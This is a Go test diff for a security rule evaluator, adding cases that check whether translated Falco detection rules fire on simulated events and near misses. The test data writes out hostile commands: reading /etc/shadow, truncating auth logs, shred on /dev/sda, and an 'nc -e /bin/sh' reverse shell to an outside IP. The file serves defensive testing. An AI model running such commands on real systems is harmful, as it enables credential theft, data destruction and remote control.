@@ -13,6 +13,7 @@ import (
 	"github.com/gyre-sec/gyre/evaluator/falco"
 	"github.com/gyre-sec/gyre/evaluator/rule"
 	"github.com/gyre-sec/gyre/evaluator/ruleset"
+	"github.com/gyre-sec/gyre/evaluator/ruletest"
 )
 
 // material returns the path of the Falco project's test data beside the repository.
@@ -146,6 +147,55 @@ func TestOfficialRules(t *testing.T) {
 					t.Logf("%s: %s", w.Context.Locations[1].ItemName, w.Message)
 				}
 			}
+		}
+	}
+}
+
+// TestOfficialRulesFire shows events that the official rules are about, and near misses, to the translated rules.
+func TestOfficialRulesFire(t *testing.T) {
+	l := falco.New(falco.Options{})
+	for _, name := range []string{"falco_rules.yaml", "falco-incubating_rules.yaml"} {
+		if res := l.Load(name, read(t, material(t, filepath.Join("rules", name)))); !res.Successful {
+			t.Fatal(res)
+		}
+	}
+	set, err := ruleset.Compile([]rule.File{l.Native("falco", true)}, ruleset.Options{OnError: func(id string, err error) { t.Errorf("%s: %v", id, err) }})
+	if err != nil {
+		t.Fatal(err)
+	}
+	const pod = "3f1c9a7be0d24c55a1f0b7d3c526a1e4f0e9d531c2f3a4b5c6d7e8f901234567"
+	open := func(name, flags string) ruletest.Event {
+		return ruletest.Event{Kind: "openat", Ret: 3, Args: map[string]any{"name": name, "flags": flags, "fd": 3}}
+	}
+	exec := ruletest.Event{Kind: "execve"}
+	shell := []ruletest.Process{{Name: "bash"}, {Name: "sshd"}}
+	for _, c := range []struct {
+		event ruletest.Event
+		proc  ruletest.Process
+		rule  string
+		want  bool
+	}{
+		{open("/etc/shadow", "O_RDONLY"), ruletest.Process{Name: "cat", Exe: "/usr/bin/cat", Args: []string{"cat", "/etc/shadow"}, Ancestors: shell}, "Read sensitive file untrusted", true},
+		{open("/etc/shadow", "O_RDONLY"), ruletest.Process{Name: "sshd", Exe: "/usr/sbin/sshd", Ancestors: shell}, "Read sensitive file untrusted", false},
+		{open("/etc/hosts", "O_RDONLY"), ruletest.Process{Name: "cat", Ancestors: shell}, "Read sensitive file untrusted", false},
+		{open("/etc/shadow", "O_WRONLY"), ruletest.Process{Name: "cat", Ancestors: shell}, "Read sensitive file untrusted", false},
+		{open("/var/log/auth.log", "O_WRONLY|O_TRUNC"), ruletest.Process{Name: "sh", Ancestors: shell}, "Clear Log Activities", true},
+		{open("/var/log/auth.log", "O_WRONLY|O_APPEND"), ruletest.Process{Name: "sh", Ancestors: shell}, "Clear Log Activities", false},
+		{exec, ruletest.Process{Name: "shred", Args: []string{"shred", "/dev/sda"}, Ancestors: shell}, "Remove Bulk Data from Disk", true},
+		{exec, ruletest.Process{Name: "x", Exe: "memfd:x", Memfd: true, Ancestors: shell}, "Fileless execution via memfd_create", true},
+		{exec, ruletest.Process{Name: "bash", Args: []string{"bash"}, TTY: "pts0", Container: pod, Ancestors: []ruletest.Process{{Name: "containerd-shim"}}}, "Terminal shell in container", true},
+		{exec, ruletest.Process{Name: "bash", Args: []string{"bash"}, TTY: "pts0", Ancestors: []ruletest.Process{{Name: "sshd"}}}, "Terminal shell in container", false},
+		{exec, ruletest.Process{Name: "nc", Args: []string{"nc", "-e", "/bin/sh", "1.2.3.4", "80"}, Container: pod, Ancestors: shell}, "Netcat Remote Code Execution in Container", true},
+		{exec, ruletest.Process{Name: "nc", Args: []string{"nc", "1.2.3.4", "80"}, Container: pod, Ancestors: shell}, "Netcat Remote Code Execution in Container", false},
+		{exec, ruletest.Process{Name: "sh", Args: []string{"sh", "-c", "ls"}, Ancestors: []ruletest.Process{{Name: "mysqld"}}}, "DB program spawned process", true},
+		{exec, ruletest.Process{Name: "mysqld", Ancestors: []ruletest.Process{{Name: "mysqld"}}}, "DB program spawned process", false},
+	} {
+		data, err := ruletest.Batch(ruletest.Case{Event: c.event, Process: &c.proc})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := matches(t, set, data); slices.Contains(got, c.rule) != c.want {
+			t.Errorf("%s by %s: %v, want %s to be %v", c.event.Kind, c.proc.Name, got, c.rule, c.want)
 		}
 	}
 }
